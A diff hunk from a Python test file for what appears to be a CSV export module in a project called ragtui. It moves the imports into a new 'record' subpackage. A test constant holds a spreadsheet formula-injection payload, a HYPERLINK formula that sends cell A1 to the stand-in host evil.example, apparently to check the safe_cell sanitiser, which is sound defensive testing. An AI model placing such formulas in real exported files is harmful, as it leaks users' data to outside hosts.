@@ -11,9 +11,9 @@ from pathlib import Path
 import pytest
 
 from ragtui.core.errors import RagtuiError
-from ragtui.core.export import header, safe_cell, sessions_to_csv, write_csv
 from ragtui.core.metrics.base import Judgment
-from ragtui.core.store import Store, StoredSession
+from ragtui.core.record.export import header, safe_cell, sessions_to_csv, write_csv
+from ragtui.core.record.store import Store, StoredSession
 
 MALICIOUS = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
 
